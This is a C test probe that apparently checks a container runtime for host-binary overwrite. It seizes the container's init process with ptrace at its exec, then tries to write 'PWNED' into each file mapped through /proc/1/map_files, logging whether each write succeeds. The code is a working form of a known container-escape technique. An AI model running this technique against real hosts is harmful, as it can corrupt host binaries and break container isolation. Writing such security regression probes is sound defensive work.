/* rt-exec-probe OUT: run inside a created (not yet started) container with
   CAP_SYS_PTRACE and CAP_SYS_ADMIN. Seizes pid 1 (the container init, still
   running runtime code) with PTRACE_O_TRACEEXEC, writes "seized" to OUT,
   then waits for the init's execve. At the exec stop the new image and its
   interpreter are mapped and nothing has run yet: for every entry of
   /proc/1/map_files it records the link target and tries to overwrite the
   file's first bytes ("map TARGET write=ok|ERRNO"), then kills the init and
   writes "done". */
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <signal.h>
#include <stdio.h>
#include <string.h>
#include <sys/ptrace.h>
#include <sys/wait.h>
#include <unistd.h>

static FILE* out;

static void say(const char* fmt, const char* a, const char* b) {
  fprintf(out, fmt, a, b);
  fflush(out);
}

int main(int argc, char** argv) {
  if (argc != 2) return 2;
  out = fopen(argv[1], "w");
  if (!out) return 2;
  alarm(30);
  if (ptrace(PTRACE_SEIZE, 1, 0, PTRACE_O_TRACEEXEC) != 0) {
    say("seize failed: %s%s\n", strerror(errno), "");
    return 1;
  }
  say("seized%s%s\n", "", "");
  for (int i = 0; i < 1000; ++i) {
    int st = 0;
    if (waitpid(1, &st, __WALL) != 1) {
      say("waitpid: %s%s\n", strerror(errno), "");
      return 1;
    }
    if (!WIFSTOPPED(st)) {
      say("init ended before exec%s%s\n", "", "");
      return 1;
    }
    if ((st >> 8) == (SIGTRAP | (PTRACE_EVENT_EXEC << 8))) break;
    int sig = WSTOPSIG(st);
    ptrace(PTRACE_CONT, 1, 0, sig == SIGTRAP ? 0 : sig);
  }
  DIR* d = opendir("/proc/1/map_files");
  if (!d) {
    say("map_files: %s%s\n", strerror(errno), "");
    return 1;
  }
  struct dirent* e;
  char seen[64][512];
  int nseen = 0;
  while ((e = readdir(d))) {
    if (e->d_name[0] == '.') continue;
    char link[512], target[512];
    snprintf(link, sizeof link, "/proc/1/map_files/%s", e->d_name);
    ssize_t n = readlink(link, target, sizeof target - 1);
    if (n < 0) continue;
    target[n] = '\0';
    int dup = 0;
    for (int i = 0; i < nseen; ++i) dup |= strcmp(seen[i], target) == 0;
    if (dup || nseen == 64) continue;
    strcpy(seen[nseen++], target);
    int fd = open(link, O_WRONLY);
    if (fd >= 0 && pwrite(fd, "PWNED", 5, 0) == 5) {
      say("map %s write=%s\n", target, "ok");
    } else {
      say("map %s write=%s\n", target, strerror(errno));
    }
    if (fd >= 0) close(fd);
  }
  closedir(d);
  kill(1, SIGKILL);
  say("done%s%s\n", "", "");
  return 0;
}
